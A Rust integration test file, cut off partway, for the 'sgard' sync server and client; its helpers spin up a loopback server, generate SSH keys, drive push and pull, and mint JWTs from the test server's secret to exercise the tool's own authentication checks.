//! Remote sync: `sgardd` serving a repository to `sgard push` / `pull` /
//! `remote` / `list --remote` / `prune --remote`, between real HOMEs with
//! their own SSH keys; three-way merges and conflicts; `undo` of a pull;
//! authentication (unknown keys, expired tokens, replayed signatures,
//! revoked keys); TLS; `--insecure-no-auth`; a hostile raw gRPC client;
//! `kill -9` of the server mid-push; encrypted entries and history on the
//! wire.
//!
//! Every server binds 127.0.0.1 on port 0 (a port chosen by the kernel) and
//! is killed when its [`Server`] guard drops, even when a test panics. Every
//! wait is bounded.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::fs;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex, mpsc};
use std::thread;
use std::time::{Duration, Instant};

use base64::Engine;
use serde_json::Value;
use sgard::remote::auth::{challenge_payload, read_private_key, sign_with_key, unix_now};
use sgard_proto::TOKEN_METADATA_KEY;
use sgard_proto::v1;
use sgard_proto::v1::garden_sync_client::GardenSyncClient;
use sgard_proto::v1::push_manifest_response::Decision;
use tonic::transport::Channel;
use tonic::{Code, Request, Status};

use crate::common::*;
use std::os::unix::fs::PermissionsExt as _;

// ---------------------------------------------------------------- helpers

/// How long one command may run before the test calls it hung.
pub(crate) const LIMIT: Duration = Duration::from_secs(40);

/// How long one raw RPC may take.
const RPC_LIMIT: Duration = Duration::from_secs(20);

/// Waits for `child` (stdout and stderr piped), draining both; kills it and
/// fails the test if it runs past `limit`.
#[track_caller]
pub(crate) fn wait_run(child: Child, limit: Duration, what: &str) -> Run {
    wait_limited(child, limit)
        .unwrap_or_else(|stderr| panic!("`{what}` hung: killed after {limit:?}; stderr: {stderr}"))
}

/// Runs `c` with stdin closed, bounded by [`LIMIT`].
#[track_caller]
fn run_cmd(mut c: Command, what: &str) -> Run {
    let child = c
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_run(child, LIMIT, what)
}

/// A `sgard` command in `t`: no ssh-agent, `--ssh-key key` when given.
pub(crate) fn client_cmd(
    t: &TestEnv,
    key: Option<&Path>,
    args: &[&str],
    env: &[(&str, &str)],
) -> Command {
    let mut full: Vec<OsString> = args.iter().map(OsString::from).collect();
    if let Some(k) = key {
        full.push("--ssh-key".into());
        full.push(k.into());
    }
    let mut c = t.command(&full);
    c.env("SSH_AUTH_SOCK", "");
    for (k, v) in env {
        c.env(k, v);
    }
    c
}

/// Runs `sgard args` in `t` with `key` and extra environment, bounded.
#[track_caller]
pub(crate) fn sg_env(t: &TestEnv, key: Option<&Path>, args: &[&str], env: &[(&str, &str)]) -> Run {
    run_cmd(
        client_cmd(t, key, args, env),
        &format!("sgard {}", args.join(" ")),
    )
}

/// Runs `sgard args --ssh-key key` in `t`, bounded.
#[track_caller]
pub(crate) fn sg(t: &TestEnv, key: &Path, args: &[&str]) -> Run {
    sg_env(t, Some(key), args, &[])
}

/// Runs a local `sgard` command in `t` (no key), bounded.
#[track_caller]
pub(crate) fn local(t: &TestEnv, args: &[&str]) -> Run {
    sg_env(t, None, args, &[])
}

/// A running `sgardd`; killed (SIGKILL) and reaped when dropped.
pub(crate) struct Server {
    pub(crate) child: Child,
    /// `127.0.0.1:PORT`.
    pub(crate) addr: String,
    pub(crate) port: u16,
    pub(crate) repo: PathBuf,
    log: Arc<Mutex<String>>,
    /// What it printed on stdout before `sgardd serving on`.
    pub(crate) banner: String,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    /// `kill -9` now.
    pub(crate) fn kill9(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }

    /// What the server wrote on stderr so far.
    pub(crate) fn log(&self) -> String {
        self.log.lock().map(|l| l.clone()).unwrap_or_default()
    }
}

/// A `sgardd` command with a pinned, minimal environment.
pub(crate) fn sgardd_cmd(home: &Path, args: &[OsString]) -> Command {
    let mut c = Command::new(crate::common::sgardd_bin());
    c.args(args)
        .current_dir(home)
        .env_clear()
        .env("HOME", home)
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("SGARD_NOW", NOW)
        .env("SGARD_HOSTNAME", "server")
        .env("NO_COLOR", "1")
        .env("LC_ALL", "C");
    c
}

/// Starts `sgardd --repo repo --init ARGS` and waits (at most 20 s) for
/// its `sgardd serving on ADDR` line. `Err` (with its output) when it exits
/// first.
fn try_serve(home: &Path, repo: &Path, args: &[OsString]) -> Result<Server, String> {
    try_serve_env(home, repo, args, &[])
}

/// [`try_serve`] with extra environment variables.
pub(crate) fn try_serve_env(
    home: &Path,
    repo: &Path,
    args: &[OsString],
    env: &[(String, String)],
) -> Result<Server, String> {
    let mut full: Vec<OsString> = vec!["--repo".into(), repo.into(), "--init".into()];
    full.extend(args.iter().cloned());
    let mut child = sgardd_cmd(home, &full)
        .envs(env.iter().map(|(k, v)| (k, v)))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawning sgardd");
    let log = Arc::new(Mutex::new(String::new()));
    let stderr = child.stderr.take().unwrap();
    let sink = log.clone();
    let err_thread = thread::spawn(move || {
        let mut r = BufReader::new(stderr);
        let mut line = String::new();
        while r.read_line(&mut line).unwrap_or(0) > 0 {
            if let Ok(mut l) = sink.lock() {
                l.push_str(&line);
            }
            line.clear();
        }
    });
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = mpsc::channel::<String>();
    thread::spawn(move || {
        // Keeps draining after the caller stops listening.
        for line in BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            let _ = tx.send(line);
        }
    });
    let mut server = Server {
        child,
        addr: String::new(),
        port: 0,
        repo: repo.to_path_buf(),
        log,
        banner: String::new(),
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut seen = String::new();
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        match rx.recv_timeout(left) {
            Ok(line) => {
                seen.push_str(&line);
                seen.push('\n');
                if let Some(rest) = line.strip_prefix("sgardd serving on ") {
                    let addr = rest.split_whitespace().next().unwrap().to_owned();
                    assert!(
                        addr.starts_with("127.0.0.1:"),
                        "server not on loopback: {line}"
                    );
                    server.port = addr.rsplit_once(':').unwrap().1.parse().unwrap();
                    server.addr = addr;
                    server.banner = seen;
                    return Ok(server);
                }
            }
            Err(mpsc::RecvTimeoutError::Timeout) => {
                panic!(
                    "sgardd did not start within 20 s; stdout: {seen}; stderr: {}",
                    server.log()
                );
            }
            Err(mpsc::RecvTimeoutError::Disconnected) => {
                // It exited (stdout closed): collect why.
                let t0 = Instant::now();
                while server.child.try_wait().unwrap().is_none()
                    && t0.elapsed() < Duration::from_secs(5)
                {
                    thread::sleep(Duration::from_millis(10));
                }
                let _ = err_thread.join();
                return Err(format!("stdout: {seen}; stderr: {}", server.log()));
            }
        }
    }
}

/// Like [`try_serve`], failing the test when the server does not start.
#[track_caller]
pub(crate) fn serve(home: &Path, repo: &Path, args: &[OsString]) -> Server {
    try_serve(home, repo, args).unwrap_or_else(|e| panic!("sgardd did not start: {e}"))
}

/// Runs `sgardd ARGS` expecting it to exit by itself (within 10 s).
#[track_caller]
pub(crate) fn sgardd_exits(home: &Path, args: &[&str]) -> Run {
    let args: Vec<OsString> = args.iter().map(OsString::from).collect();
    let child = sgardd_cmd(home, &args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_run(child, Duration::from_secs(10), "sgardd")
}

/// Makes an ed25519 key `dir/name` (and `name.pub`); `None` without ssh-keygen.
pub(crate) fn keygen(dir: &Path, name: &str) -> Option<PathBuf> {
    let p = dir.join(name);
    let out = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&p)
        .stdin(Stdio::null())
        .output();
    match out {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(e) => panic!("running ssh-keygen: {e}"),
        Ok(o) => {
            assert!(
                o.status.success(),
                "ssh-keygen failed: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            Some(p)
        }
    }
}

/// The public key line of a key made by [`keygen`].
pub(crate) fn pubkey(key: &Path) -> String {
    fs::read_to_string(format!("{}.pub", key.display())).unwrap()
}

/// `SHA256:...`, as `ssh-keygen -lf key.pub` prints it.
pub(crate) fn fingerprint(key: &Path) -> String {
    let o = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(format!("{}.pub", key.display()))
        .output()
        .unwrap();
    assert!(o.status.success());
    let text = String::from_utf8(o.stdout).unwrap();
    let fp = text.split_whitespace().nth(1).unwrap().to_owned();
    assert!(fp.starts_with("SHA256:"), "{text}");
    fp
}

/// A scratch folder with a server home, a server repository path, client
/// keys and an `authorized_keys` listing them.
pub(crate) struct World {
    dir: tempfile::TempDir,
    keys: Vec<PathBuf>,
}

impl World {
    /// `n` keys, all authorized; `None` when ssh-keygen is missing.
    pub(crate) fn new(n: usize) -> Option<World> {
        let w = World::bare();
        let kdir = w.root().join("keys");
        fs::create_dir_all(&kdir).unwrap();
        let mut keys = Vec::new();
        for i in 0..n {
            keys.push(keygen(&kdir, &format!("key{i}"))?);
        }
        let lines: String = keys.iter().map(|k| pubkey(k)).collect();
        fs::write(w.auth_keys(), lines).unwrap();
        Some(World { keys, ..w })
    }

    /// No keys (for `--insecure-no-auth`).
    fn bare() -> World {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("srvhome")).unwrap();
        World {
            dir,
            keys: Vec::new(),
        }
    }

    pub(crate) fn root(&self) -> &Path {
        self.dir.path()
    }

    pub(crate) fn key(&self, i: usize) -> &Path {
        &self.keys[i]
    }

    /// A key that is not in `authorized_keys`.
    pub(crate) fn stranger(&self) -> PathBuf {
        keygen(&self.root().join("keys"), "stranger").unwrap()
    }

    pub(crate) fn srv_home(&self) -> PathBuf {
        self.root().join("srvhome")
    }

    pub(crate) fn srv_repo(&self) -> PathBuf {
        self.root().join("srv").join("repo")
    }

    pub(crate) fn auth_keys(&self) -> PathBuf {
        self.root().join("authorized_keys")
    }

    /// `sgardd` over [`World::srv_repo`] with `authorized_keys`, on
    /// `127.0.0.1:0`, plus `extra`.
    #[track_caller]
    pub(crate) fn serve(&self, extra: &[&str]) -> Server {
        serve(
            &self.srv_home(),
            &self.srv_repo(),
            &self.serve_args(0, extra),
        )
    }

    pub(crate) fn serve_args(&self, port: u16, extra: &[&str]) -> Vec<OsString> {
        let mut a: Vec<OsString> = vec![
            "--authorized-keys".into(),
            self.auth_keys().into(),
            "--listen".into(),
            format!("127.0.0.1:{port}").into(),
        ];
        a.extend(extra.iter().map(OsString::from));
        a
    }
}

/// Skips the test (returns) when ssh-keygen is missing.
macro_rules! world_or_skip {
    ($n:expr) => {
        match World::new($n) {
            Some(w) => w,
            None => {
                eprintln!("skipping: ssh-keygen is not installed");
                return;
            }
        }
    };
}

pub(crate) use world_or_skip;

/// The usual start of a sync test: a world with two keys (`ka`, `kb`) and
/// a plain server (`srv`, listening at `addr`), as `let` bindings named by
/// the caller. Skips the test when ssh-keygen is missing.
macro_rules! two_machines_one_server {
    ($w:ident, $srv:ident, $addr:ident, $ka:ident, $kb:ident) => {
        let $w = world_or_skip!(2);
        let ($ka, $kb) = ($w.key(0), $w.key(1));
        let $srv = $w.serve(&[]);
        let $addr = $srv.addr.as_str();
    };
}

pub(crate) use two_machines_one_server;

/// Every regular file under `dir`, as paths relative to it.
pub(crate) fn files_under(dir: &Path) -> BTreeSet<String> {
    fn walk(root: &Path, d: &Path, out: &mut BTreeSet<String>) {
        let Ok(rd) = fs::read_dir(d) else { return };
        for e in rd {
            let e = e.unwrap();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                walk(root, &e.path(), out);
            } else {
                out.insert(
                    e.path()
                        .strip_prefix(root)
                        .unwrap()
                        .to_string_lossy()
                        .into_owned(),
                );
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(dir, dir, &mut out);
    out
}

/// The stored blobs of a repository (`blobs/xx/yy/<hash>`), temp files aside.
pub(crate) fn blob_names(repo: &Path) -> BTreeSet<String> {
    files_under(&repo.join("blobs"))
        .into_iter()
        .filter(|p| !p.starts_with("tmp/"))
        .collect()
}

/// Whether any file under the repository's `blobs/` is named `hash`.
fn any_file_named(repo: &Path, hash: &str) -> bool {
    files_under(&repo.join("blobs"))
        .iter()
        .any(|p| p.rsplit('/').next() == Some(hash))
}

/// Waits (at most 5 s) until `blobs/tmp` holds no file.
#[track_caller]
pub(crate) fn assert_no_temp_blobs(repo: &Path) {
    let tmp = repo.join("blobs").join("tmp");
    let t0 = Instant::now();
    loop {
        let left = files_under(&tmp);
        if left.is_empty() {
            return;
        }
        assert!(
            t0.elapsed() < Duration::from_secs(5),
            "temp blob files left behind: {left:?}"
        );
        thread::sleep(Duration::from_millis(20));
    }
}

/// Where the blob `hash` lives in a repository.
pub(crate) fn blob_file(repo: &Path, hash: &str) -> PathBuf {
    repo.join("blobs")
        .join(&hash[0..2])
        .join(&hash[2..4])
        .join(hash)
}

/// The token cache files of a HOME.
pub(crate) fn token_files(t: &TestEnv) -> Vec<PathBuf> {
    let dir = t.path(".state/sgard/tokens");
    let mut v: Vec<PathBuf> = match fs::read_dir(&dir) {
        Ok(rd) => rd.map(|e| e.unwrap().path()).collect(),
        Err(_) => Vec::new(),
    };
    v.sort();
    v
}

/// The one token cache file of a HOME.
#[track_caller]
pub(crate) fn token_file(t: &TestEnv) -> PathBuf {
    let v = token_files(t);
    assert_eq!(v.len(), 1, "expected one cached token: {v:?}");
    v[0].clone()
}

/// The `N` of `Pushed N blobs.` (`Pushed 1 blob.`).
#[track_caller]
pub(crate) fn pushed_count(r: &Run) -> usize {
    let line = r
        .stdout
        .lines()
        .find(|l| l.starts_with("Pushed "))
        .unwrap_or_else(|| panic!("no `Pushed N blobs.`; {r:#?}"));
    let (n, noun) = line["Pushed ".len()..]
        .split_once(' ')
        .unwrap_or_else(|| panic!("{line}"));
    let n: usize = n.parse().unwrap();
    assert_eq!(noun, if n == 1 { "blob." } else { "blobs." }, "{line}");
    n
}

#[track_caller]
pub(crate) fn json_of(r: &Run) -> Value {
    serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("not JSON ({e}); {r:#?}"))
}

/// `list --json` entries (path → hash) of a repository.
#[track_caller]
pub(crate) fn entries(t: &TestEnv, extra: &[&str]) -> Vec<(String, String)> {
    let mut args = vec!["list", "--json"];
    args.extend_from_slice(extra);
    let r = local(t, &args);
    r.ok();
    json_of(&r)["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_owned(),
                e["hash"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

/// `log --json` snapshots of a HOME's repository, newest first.
#[track_caller]
pub(crate) fn log_json(t: &TestEnv) -> Vec<Value> {
    let r = local(t, &["log", "--json"]);
    r.ok();
    json_of(&r)["snapshots"].as_array().unwrap().clone()
}

/// Deterministic incompressible bytes.
pub(crate) fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        out.extend_from_slice(&x.to_le_bytes());
    }
    out.truncate(len);
    out
}

/// `NOW` plus `mins` minutes, as an RFC 3339 time.
pub(crate) fn now_plus(mins: u32) -> String {
    assert!(mins < 12 * 60);
    format!("2026-03-23T{:02}:{:02}:00Z", 12 + mins / 60, mins % 60)
}

/// Makes `t` trust `key` (its `.pub` file) to sign the repository's heads.
#[track_caller]
pub(crate) fn trust(t: &TestEnv, key: &Path) {
    let mut pubfile = key.as_os_str().to_owned();
    pubfile.push(".pub");
    let pubfile = PathBuf::from(pubfile);
    local(t, &["trust", "add", pubfile.to_str().unwrap()])
        .ok()
        .stdout_has("Trusting SHA256:");
}

/// Adds and checkpoints `paths` (relative to HOME).
#[track_caller]
pub(crate) fn track(t: &TestEnv, paths: &[&str]) {
    let mut args = vec!["add"];
    args.extend_from_slice(paths);
    local(t, &args).ok();
    local(t, &["checkpoint"]).ok();
}

/// Issue 39, defect 1 and item 6, on the server at `addr` (started with
/// a size limit of 5,000,000 bytes): a push the server refuses (a 6 MB
/// file, sent whole, or `chunked`: a limit on files bounds them in chunks
/// too) changes nothing a later pull compares against. The pull finds
/// nothing to take and no conflict, the file stays as it is here; a later
/// edit is still this machine's alone, and once the big version is purged
/// from the history the rest pushes and reaches another machine.
#[track_caller]
pub(crate) fn a_refused_push_leaves_no_false_conflict(key: &Path, addr: &str, chunked: bool) {
    let mut t = TestEnv::init();
    if !chunked {
        local(&t, &["chunking", "--off"]).ok();
    }
    t.write("f", noise(2_000_000, 1));
    track(&t, &["f"]);
    sg(&t, key, &["push", "-r", addr]).ok();
    t.now = now_plus(5);
    let big = noise(6_000_000, 2);
    t.write("f", &big);
    local(&t, &["checkpoint", "-m", "big"]).ok();
    let r = sg(&t, key, &["push", "-r", addr]);
    assert_eq!(r.code, 1, "{r:#?}");
    r.stderr_has("larger than the server's limit");
    // The refusal names the file, not only a blob.
    r.stderr_has("sgard: error: ~/f is over the server's size limit")
        .stderr_has("whole or in chunks")
        .stderr_has("--max-file-size");
    let r = sg(&t, key, &["pull", "-r", addr]);
    r.ok();
    assert!(
        !r.stdout.contains("conflict") && !r.stderr.contains("conflict"),
        "{r:#?}"
    );
    assert_eq!(t.read("f"), big);
    local(&t, &["status", "--exit-code"]).ok();
    // Edited again here: still this machine's change alone, which pushes
    // once it fits.
    t.now = now_plus(10);
    t.write("f", "small now\n");
    local(&t, &["checkpoint", "-m", "small"]).ok();
    let r = sg(&t, key, &["pull", "-r", addr]);
    r.ok();
    assert!(
        !r.stdout.contains("conflict") && !r.stderr.contains("conflict"),
        "{r:#?}"
    );
    assert_eq!(t.read("f"), b"small now\n");
    // The history still holds the big version, so the push is refused
    // again, for the same reason; purging it lets the rest through.
    let r = sg(&t, key, &["push", "-r", addr]);
    assert_eq!(r.code, 1, "{r:#?}");
    r.stderr_has("larger than the server's limit");
    r.stderr_has("an older version of ~/f (snapshot ");
    r.stderr_has("`sgard purge ~/f --keep-current` drops it from the history");
    local(&t, &["purge", "~/f", "--keep-current", "-y"]).ok();
    sg(&t, key, &["push", "-r", addr]).ok();
    let mut other = TestEnv::init();
    other.now = now_plus(15);
    trust(&other, key);
    sg(&other, key, &["pull", "-r", addr]).ok();
    assert_eq!(other.read("f"), b"small now\n");
}

/// Fails when a sync's output speaks of a conflict.
#[track_caller]
fn no_conflict(r: &Run) {
    assert!(
        !r.stdout.contains("conflict") && !r.stderr.contains("conflict"),
        "{r:#?}"
    );
}

/// Two machines sync one garden through two addresses of it (two replicas,
/// or one server's two names), in turn: a machine synced through one
/// address is neither behind nor in conflict through the other, and pushes
/// through either. What each remembers is keyed by the garden's id.
pub(crate) fn alternating_addresses_are_one_garden(ka: &Path, kb: &Path, r1: &str, r2: &str) {
    let mut a = TestEnv::init();
    a.write("fa", "a0\n");
    a.write("fb", "b0\n");
    track(&a, &["fa", "fb"]);
    sg(&a, ka, &["push", "-r", r1]).ok();
    let mut b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    trust(&a, kb);
    b.now = now_plus(1);
    sg(&b, kb, &["pull", "-r", r1]).ok();

    // A's edit, pushed through the first address, reaches B through the
    // second: B never edited it, so it is simply taken.
    change(&mut a, "fa", "a1\n", 2);
    sg(&a, ka, &["push", "-r", r1]).ok();
    b.now = now_plus(3);
    let r = sg(&b, kb, &["pull", "-r", r2]);
    r.ok();
    no_conflict(&r);
    assert_eq!(b.read("fa"), b"a1\n");
    local(&b, &["status", "--exit-code"]).ok();
    // B's edit pushes through the second address: a fast-forward of what
    // it pulled, whichever address that came through.
    change(&mut b, "fb", "b1\n", 4);
    sg(&b, kb, &["push", "-r", r2]).ok();

    // A, synced only through the first address, pulls through the second
    // and pushes through it, then goes back to the first.
    a.now = now_plus(5);
    let r = sg(&a, ka, &["pull", "-r", r2]);
    r.ok();
    no_conflict(&r);
    assert_eq!(a.read("fb"), b"b1\n");
    change(&mut a, "fa", "a2\n", 6);
    sg(&a, ka, &["push", "-r", r2]).ok();
    sg(&a, ka, &["pull", "-r", r1])
        .ok()
        .stdout_has("Already up to date.");
    sg(&a, ka, &["push", "-r", r1]).ok();
    // Nothing here is behind either address.
    for addr in [r1, r2] {
        let r = sg(&a, ka, &["push", "--dry-run", "-r", addr]);
        r.ok();
        assert!(!r.stdout.contains("refused"), "{r:#?}");
    }
    b.now = now_plus(7);
    let r = sg(&b, kb, &["pull", "-r", r1]);
    r.ok();
    no_conflict(&r);
    assert_eq!(b.read("fa"), b"a2\n");
    for t in [&a, &b] {
        local(t, &["status", "--exit-code"]).ok();
        assert_eq!(entries(t, &[]), entries(&a, &[]));
        // One line for the garden, one per address naming it; none keyed
        // by an address alone.
        let state = std::fs::read_to_string(t.repo().join("sync-state")).unwrap();
        let lines: Vec<&str> = state.lines().collect();
        assert_eq!(lines.len(), 3, "{state}");
        assert_eq!(
            lines.iter().filter(|l| l.starts_with("garden ")).count(),
            1,
            "{state}"
        );
    }
}

/// Writes `rel` and checkpoints.
#[track_caller]
pub(crate) fn change(t: &mut TestEnv, rel: &str, content: &str, mins: u32) {
    t.now = now_plus(mins);
    t.write(rel, content);
    local(t, &["checkpoint"]).ok();
}

// ------------------------------------------------------- raw gRPC helpers

pub(crate) type Raw = GardenSyncClient<Channel>;

pub(crate) fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

/// Awaits `f`, failing the test after [`RPC_LIMIT`].
pub(crate) async fn tmo<T>(f: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(RPC_LIMIT, f)
        .await
        .expect("a raw RPC hung")
}

pub(crate) async fn connect(addr: &str) -> Raw {
    let ch = tmo(Channel::from_shared(format!("http://{addr}"))
        .unwrap()
        .connect())
    .await
    .unwrap();
    GardenSyncClient::new(ch)
        .max_decoding_message_size(64 << 20)
        .max_encoding_message_size(64 << 20)
}

/// A request carrying `token` (none when empty).
pub(crate) fn authed<T>(msg: T, token: &str) -> Request<T> {
    let mut r = Request::new(msg);
    if !token.is_empty() {
        r.metadata_mut()
            .insert(TOKEN_METADATA_KEY, token.parse().unwrap());
    }
    r
}

/// A fresh 32-byte nonce.
pub(crate) fn nonce(label: &str) -> Vec<u8> {
    use sha2::{Digest, Sha256};
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    Sha256::digest(format!("{label} {t} {:?}", thread::current().id()).as_bytes()).to_vec()
}

/// The Authenticate request `key` makes for `(nonce, ts)`.
pub(crate) fn auth_request(key: &Path, nonce: &[u8], ts: i64) -> v1::AuthenticateRequest {
    let k = read_private_key(key).unwrap();
    v1::AuthenticateRequest {
        nonce: nonce.to_vec(),
        timestamp: ts,
        signature: sign_with_key(&k, &challenge_payload(nonce, ts)).unwrap(),
        public_key: pubkey(key),
    }
}

pub(crate) async fn raw_auth(c: &mut Raw, req: v1::AuthenticateRequest) -> Result<String, Status> {
    tmo(c.authenticate(req)).await.map(|r| r.into_inner().token)
}

/// Logs in with `key`.
pub(crate) async fn login(c: &mut Raw, key: &Path) -> String {
    raw_auth(c, auth_request(key, &nonce("login"), unix_now()))
        .await
        .unwrap()
}

pub(crate) async fn pull_manifest(
    c: &mut Raw,
    token: &str,
) -> Result<v1::PullManifestResponse, Status> {
    tmo(c.pull_manifest(authed(v1::PullManifestRequest {}, token)))
        .await
        .map(tonic::Response::into_inner)
}

/// Streams `(hash, data)` chunks as one PushBlobs call.
pub(crate) async fn push_blobs(
    c: &mut Raw,
    token: &str,
    chunks: Vec<(String, Vec<u8>)>,
) -> Result<i32, Status> {
    let msgs: Vec<v1::PushBlobsRequest> = chunks
        .into_iter()
        .map(|(hash, data)| v1::PushBlobsRequest {
            chunk: Some(v1::BlobChunk {
                hash,
                data,
                kind: 0,
            }),
        })
        .collect();
    tmo(c.push_blobs(authed(tokio_stream::iter(msgs), token)))
        .await
        .map(|r| r.into_inner().blobs_received)
}

/// PullBlobs, collected as `(hash, bytes)` per blob.
pub(crate) async fn pull_blobs(
    c: &mut Raw,
    token: &str,
    hashes: &[&str],
) -> Result<Vec<(String, Vec<u8>)>, Status> {
    let req = v1::PullBlobsRequest {
        hashes: hashes.iter().map(|h| (*h).to_owned()).collect(),
        lists: false,
        chunks: false,
    };
    let mut s = tmo(c.pull_blobs(authed(req, token))).await?.into_inner();
    let mut out: Vec<(String, Vec<u8>)> = Vec::new();
    for _ in 0..100_000 {
        let Some(m) = tmo(s.message()).await? else {
            return Ok(out);
        };
        let ch = m.chunk.unwrap();
        if !ch.hash.is_empty() {
            out.push((ch.hash, Vec::new()));
        }
        out.last_mut().unwrap().1.extend_from_slice(&ch.data);
    }
    panic!("PullBlobs never ended");
}

pub(crate) async fn push_manifest(
    c: &mut Raw,
    token: &str,
    req: v1::PushManifestRequest,
) -> Result<v1::PushManifestResponse, Status> {
    tmo(c.push_manifest(authed(req, token)))
        .await
        .map(tonic::Response::into_inner)
}

pub(crate) fn pb_time(secs: i64) -> Option<prost_types::Timestamp> {
    Some(prost_types::Timestamp {
        seconds: secs,
        nanos: 0,
    })
}

/// A file entry message.
pub(crate) fn file_entry(path: &str, hash: &str) -> v1::ManifestEntry {
    v1::ManifestEntry {
        path: path.into(),
        hash: hash.into(),
        r#type: "file".into(),
        mode: "0644".into(),
        updated: pb_time(now_secs()),
        ..Default::default()
    }
}

/// A manifest message with `files`, updated at `updated`.
pub(crate) fn manifest_msg(files: Vec<v1::ManifestEntry>, updated: i64) -> v1::Manifest {
    v1::Manifest {
        version: 1,
        created: pb_time(now_secs()),
        updated: pb_time(updated),
        message: String::new(),
        files,
        encryption: None,
        exclude: Vec::new(),
        data: String::new(),
        folders: Vec::new(),
    }
}

pub(crate) fn push_req(
    files: Vec<v1::ManifestEntry>,
    base: &str,
    negotiate: bool,
) -> v1::PushManifestRequest {
    v1::PushManifestRequest {
        manifest: Some(manifest_msg(files, now_secs())),
        base_id: base.into(),
        negotiate,
        ..Default::default()
    }
}

#[track_caller]
pub(crate) fn expect_code<T: std::fmt::Debug>(
    r: Result<T, Status>,
    codes: &[Code],
    what: &str,
) -> Status {
    match r {
        Ok(v) => panic!("{what}: accepted ({v:?}), expected {codes:?}"),
        Err(s) => {
            assert!(
                codes.contains(&s.code()),
                "{what}: got {:?} ({}), expected {codes:?}",
                s.code(),
                s.message()
            );
            s
        }
    }
}

// ------------------------------------------------------------------- JWT

const B64URL: base64::engine::GeneralPurpose = base64::engine::general_purpose::URL_SAFE_NO_PAD;

fn hmac_sha256(key: &[u8], msg: &[u8]) -> Vec<u8> {
    use sha2::{Digest, Sha256};
    let mut k = [0u8; 64];
    assert!(key.len() <= 64);
    k[..key.len()].copy_from_slice(key);
    let ipad: Vec<u8> = k.iter().map(|b| b ^ 0x36).collect();
    let opad: Vec<u8> = k.iter().map(|b| b ^ 0x5c).collect();
    let inner = Sha256::new()
        .chain_update(&ipad)
        .chain_update(msg)
        .finalize();
    Sha256::new()
        .chain_update(&opad)
        .chain_update(inner)
        .finalize()
        .to_vec()
}

/// An HS256 JWT signed with `secret`.
fn jwt(secret: &[u8], sub: &str, iat: i64, exp: i64) -> String {
    let h = B64URL.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
    let c = B64URL.encode(serde_json::json!({"sub": sub, "iat": iat, "exp": exp}).to_string());
    let signing = format!("{h}.{c}");
    let sig = B64URL.encode(hmac_sha256(secret, signing.as_bytes()));
    format!("{signing}.{sig}")
}

/// The claims of a JWT.
fn claims(token: &str) -> Value {
    let body = token.split('.').nth(1).unwrap();
    serde_json::from_slice(&B64URL.decode(body).unwrap()).unwrap()
}

/// The `jwt.key` secret of a server repository (its first 32 bytes).
fn server_secret(repo: &Path) -> Vec<u8> {
    let k = fs::read(repo.join("jwt.key")).unwrap();
    assert!(k.len() >= 32);
    k[..32].to_vec()
}

/// The ReauthChallenge an `Unauthenticated` status carries, if any.
fn reauth_challenge(s: &Status) -> Option<v1::ReauthChallenge> {
    use prost::Message;
    let st = sgard_proto::wire::RpcStatus::decode(s.details()).ok()?;
    let any = st
        .details
        .iter()
        .find(|a| a.type_url == "type.googleapis.com/sgard.v1.ReauthChallenge")?;
    v1::ReauthChallenge::decode(any.value.as_slice()).ok()
}

// ------------------------------------------------------------------ tests

/// Two HOMEs with their own keys sync through one server, both ways; pull
/// into a HOME without a repository creates it; tokens are cached 0600.
#[test]
fn two_homes_sync_both_ways() {
    two_machines_one_server!(w, srv, addr, ka, kb);

    let a = TestEnv::init();
    a.write(".bashrc", "export A=1\n");
    let conf = noise(200_000, 1);
    a.write(".config/app/conf", &conf);
    a.chmod(".config/app/conf", 0o600);
    track(&a, &[".bashrc", ".config/app/conf"]);

    let r = sg(&a, ka, &["push", "-r", addr]);
    r.ok();
    let n = pushed_count(&r);
    let stored = blob_names(&srv.repo);
    assert_eq!(
        n,
        stored.len(),
        "`Pushed N` should count the blobs the fresh server got: {stored:?}"
    );
    for c in [&b"export A=1\n"[..], &conf] {
        let f = blob_file(&srv.repo, &sha(c));
        assert_eq!(fs::read(&f).unwrap(), c, "{}", f.display());
    }
    // Nothing new: a second push is a no-op.
    sg(&a, ka, &["push", "-r", addr])
        .ok()
        .stdout_has("Already up to date.");

    // B has no repository: pull creates it and restores the files.
    let mut b = TestEnv::new();
    assert!(!b.repo().exists());
